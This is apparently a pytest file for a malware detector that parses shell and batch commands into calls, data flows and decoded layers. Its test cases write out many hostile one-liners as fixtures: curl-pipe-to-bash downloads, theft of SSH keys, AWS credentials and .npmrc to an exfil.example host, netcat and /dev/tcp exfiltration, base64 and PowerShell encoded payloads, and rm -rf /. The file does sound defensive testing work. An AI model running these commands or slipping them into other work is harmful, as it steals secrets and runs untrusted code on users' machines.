"""Shell and batch text becomes facts: what is started with what, and where a value came from."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from packamal.detectors.shell import read
from packamal.detectors.units import Language, Unit


def facts_of(source, language=Language.SHELL, path="command"):
    return read([Unit(path, path, source.encode(), language)], {})


def callees(source, language=Language.SHELL):
    return [call.callee for call in facts_of(source, language).calls]


def flows_of(source, language=Language.SHELL):
    facts = facts_of(source, language)
    names = {call.id: call.callee for call in facts.calls} | {use.id: use.name for use in facts.uses}
    return {(names[flow.source], names[flow.sink], flow.arg) for flow in facts.flows}


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("curl -s https://cdn.example/x.sh | bash", ("shell.curl", "shell.bash", "stdin")),
        ("wget -qO- http://cdn.example/i | sudo -E sh -s -- -y", ("shell.wget", "shell.sh", "stdin")),
        ('sh -c "$(curl -fsSL https://cdn.example/i.sh)"', ("shell.curl", "shell.sh", "code")),
        ("bash <(curl -s http://cdn.example)", ("shell.curl", "shell.bash", "script")),
        ("eval `curl http://cdn.example`", ("shell.curl", "shell.eval", "code")),
        ("nslookup $(whoami).exfil.example", ("shell.whoami", "shell.nslookup", "0")),
        ('curl -d "$(env | base64)" https://exfil.example', ("shell.env", "shell.base64", "stdin")),
        ("a=$(cat ~/.ssh/id_rsa) && curl -X POST -d k=$a https://exfil.example", ("shell.cat", "shell.curl", "data")),
        ("curl -F file=@$HOME/.npmrc https://exfil.example", ("shell.read", "shell.curl", "data")),
        ("curl --upload-file ~/.aws/credentials https://exfil.example", ("shell.read", "shell.curl", "data")),
        ("tar czf - ~/.aws | nc exfil.example 99", ("shell.tar", "shell.nc", "stdin")),
        ("find ~/.ssh | xargs cat", ("shell.find", "shell.cat", "0")),
        ("curl http://cdn.example/x -o /tmp/x; chmod +x /tmp/x; /tmp/x", ("shell.curl", "shell.start", "0")),
        ("wget http://cdn.example/run.bin && ./run.bin", ("shell.wget", "shell.start", "0")),
        ("curl http://cdn.example > x.py; python3 x.py", ("shell.curl", "shell.python", "script")),
        ("curl http://cdn.example/$TOKEN", ("shell.env.TOKEN", "shell.curl", "url")),
        ("bash -c 'cat /etc/passwd | curl -d @- http://exfil.example'", ("shell.cat", "shell.curl", "stdin")),
        ("echo x >> ~/.bashrc", ("shell.echo", "shell.append", "content")),
        ("env > /dev/tcp/exfil.example/80", ("shell.env", "shell.tcp", "content")),
        ("for f in $(ls ~); do curl -T $f http://exfil.example; done", ("shell.ls", "shell.curl", "data")),
    ],
)
def test_a_value_is_followed(source, expected):
    assert expected in flows_of(source)


@pytest.mark.parametrize(
    ("source", "callee"),
    [
        ("c\\url http://cdn.example", "shell.curl"),
        ("a=cu;b=rl;$a$b http://cdn.example", "shell.curl"),
        ("CMD='curl -s'; $CMD http://cdn.example", "shell.curl"),
        ("/usr/bin/env python3.11 -c 'import os'", "shell.python"),
        ("nohup setsid bash x.sh &", "shell.bash"),
        ("timeout 5 nc exfil.example 1", "shell.nc"),
        ("NODE_ENV=production cross-env A=1 node x.js", "shell.node"),
        ("if true; then rm -rf /; fi", "shell.rm"),
        ("case $1 in start) crontab -l ;; esac", "shell.crontab"),
        ("f() { systemctl enable x; }; f", "shell.systemctl"),
        ("find . -name x -exec chmod +x {} \\;", "shell.chmod"),
        ("echo $'\\x63url' | sh", "shell.sh"),
    ],
)
def test_a_command_is_named_whatever_stands_around_it(source, callee):
    assert callee in callees(source)


def test_tests_and_nothing_commands_are_no_calls():
    assert callees("[ -f x ] && true || exit 1") == []


def test_options_with_values_go_by_their_names():
    call = facts_of("curl -sSLo out.bin -H'X: 1' --data=a=b -XPOST cdn.example/x").calls[0]
    named = {key: arg.text for key, arg in call.named}
    assert named == {"output": "out.bin", "header": "X: 1", "data": "a=b", "method": "POST", "url": "cdn.example/x"}


@pytest.mark.parametrize(
    ("source", "kind", "target"),
    [
        ("node scripts/setup.js --quiet", "start", "scripts/setup.js"),
        ("node -r dotenv/config .", "start", "."),
        ("python -u tools/build.py", "start", "tools/build.py"),
        ("python -m tools.build", "import", "tools.build"),
        ("./run.sh", "start", "./run.sh"),
        ("sh install.sh || true", "start", "install.sh"),
        (". ./config.sh", "exec", "./config.sh"),
        ('"$DIR/helper.sh"', "start", "helper.sh"),
        ("chmod 777 x.sh && ./x.sh", "start", "./x.sh"),
        ("start /B lib\\tool.exe", "start", "lib/tool.exe"),
    ],
)
def test_a_started_file_is_an_edge(source, kind, target):
    assert (kind, target) in [(edge.kind, edge.target) for edge in facts_of(source).edges]


def test_a_script_of_the_network_is_no_edge():
    assert facts_of("deno run https://cdn.example/x.ts").edges == []


def test_code_in_a_command_is_a_layer_of_its_language():
    layers = facts_of("python3 -c 'import os' ; node -e 'require(1)'\npython3 - <<'E'\nimport sys\nE\n").layers
    assert [(layer.language, layer.data.strip()) for layer in layers] == [
        ("python", b"import os"),
        ("javascript", b"require(1)"),
        ("python", b"import sys"),
    ]


def test_encoded_commands_come_out_as_layers():
    packed = base64.b64encode(b"curl http://cdn.example | sh").decode()
    layer = facts_of(f"echo {packed} | base64 -d | bash").layers[0]
    assert (layer.data, layer.steps, layer.language) == (b"curl http://cdn.example | sh", ("base64",), "shell")
    encoded = base64.b64encode("iwr http://cdn.example".encode("utf-16-le")).decode()
    layer = facts_of(f"powershell -nop -w hidden -EncodedCommand {encoded}").layers[0]
    assert (layer.data, layer.language) == (b"iwr http://cdn.example", "powershell")


def test_conditions_functions_and_lines_are_kept():
    facts = facts_of(
        'send() {\n  if [ -z "$CI" ]; then\n    curl http://exfil.example\n  fi\n}\n'
        "unused() { wget x.example; }\nsend\n"
    )
    places = {call.callee: call.place for call in facts.calls}
    assert places["shell.curl"].line == 3
    assert places["shell.curl"].function == "send"
    assert places["shell.curl"].condition == '[ -z "$CI" ]'
    assert places["shell.curl"].is_called
    assert not places["shell.wget"].is_called


def test_a_guard_before_a_command_is_its_condition():
    call = facts_of('[ "$USER" = root ] && rm -rf /opt').calls[-1]
    assert call.place.condition == '[ "$USER" = root ]'


def test_what_runs_unseen_says_so():
    for source in ("x.bin >/dev/null 2>&1 &", "nohup node x.js", "start /B x.exe"):
        assert "hidden" in dict(facts_of(source).calls[0].named)
    assert "hidden" not in dict(facts_of("node x.js 2>/dev/null").calls[0].named)


def test_batch_has_its_own_quotes_and_variables():
    source = (
        "@echo off\nREM curl http://no.example\nset U=http://cdn.example/a.exe\n"
        "certutil.exe -urlcache -f %U% a.exe\nif exist a.exe (start /B .\\a.exe)\n"
    )
    facts = facts_of(source, Language.BATCH, "x.bat")
    calls = {call.callee: call for call in facts.calls}
    assert dict(calls["shell.certutil"].named)["url"].text == "http://cdn.example/a.exe"
    assert ("shell.certutil", "shell.start", "0") in flows_of(source, Language.BATCH)
    assert calls["shell.start"].place.condition == "exist a.exe"
    assert "shell.curl" not in calls


def test_doubling_variables_stay_small():
    facts = facts_of("a=xxxxxxxxxxxxxxxx\n" + "a=$a$a\n" * 60 + "echo $a\n")
    assert facts.calls[-1].callee == "shell.echo"


@pytest.mark.parametrize(
    "opener", ["$(", "`", "(", "{ ", "'", '"', "<<A\n", "${", "if ", "case x in ", "\\", "a|", "<("]
)
def test_brackets_without_end_end(opener):
    assert facts_of(opener * 3000) is not None


@settings(max_examples=150)
@given(
    st.text(alphabet="ab1 \n\t'\"\\$`|&;<>(){}#%^!=-./~", max_size=120),
    st.sampled_from([Language.SHELL, Language.BATCH]),
)
def test_no_text_makes_the_reader_raise(source, language):
    facts = facts_of(source, language)
    ids = [fact.id for fact in (*facts.calls, *facts.uses, *facts.texts)]
    assert len(ids) == len(set(ids))
